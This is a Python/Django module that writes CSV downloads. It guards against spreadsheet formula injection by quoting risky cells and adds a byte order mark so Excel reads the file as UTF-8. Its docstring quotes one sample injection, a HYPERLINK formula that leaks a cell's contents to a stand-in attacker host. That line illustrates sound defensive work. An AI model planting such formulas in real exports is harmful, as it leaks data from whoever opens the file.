"""Every CSV the project hands out, written here and nowhere else.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a
formula, and skips a leading tab, carriage return or line feed before deciding,
so a title typed by anyone (an idea, a gate, an organisation) could become
`=HYPERLINK("http://evil.example/?leak="&A1, "Click")` on an organiser's
screen. Such text is written with a leading single quote (OWASP's advice): the
spreadsheet shows it as text. Real numbers (a count, a negative balance) are
written as they are, since "-3" read as the number -3 runs nothing; a number
that arrives as text is text, and is quoted like any other text.

Every file starts with a byte order mark: Excel reads a CSV as the local ANSI
code page without one, which turns Arabic into mojibake.
"""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal

from django.conf import settings
from django.http import HttpResponse
from django.utils import translation
from django.utils.http import content_disposition_header

BYTE_ORDER_MARK = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
CONTENT_TYPE = "text/csv; charset=utf-8"


def cell(value: object) -> object:
    """`value` as a spreadsheet may safely read it: a number stays a number, None is
    empty, and text a spreadsheet would run as a formula starts with a quote."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """A header line and the rows, every cell through `cell`, after a byte order mark."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([cell(value) for value in header])
    writer.writerows([cell(value) for value in row] for row in rows)
    return BYTE_ORDER_MARK + buffer.getvalue()


def csv_response(
    header: Iterable[object], rows: Iterable[Iterable[object]], *, filename: str
) -> HttpResponse:
    """The table as a CSV download named `filename`, in the language of the request."""
    headers = {
        "Content-Disposition": content_disposition_header(True, filename) or "attachment",
        "Content-Language": translation.get_language() or settings.LANGUAGE_CODE,
    }
    return HttpResponse(csv_text(header, rows), content_type=CONTENT_TYPE, headers=headers)
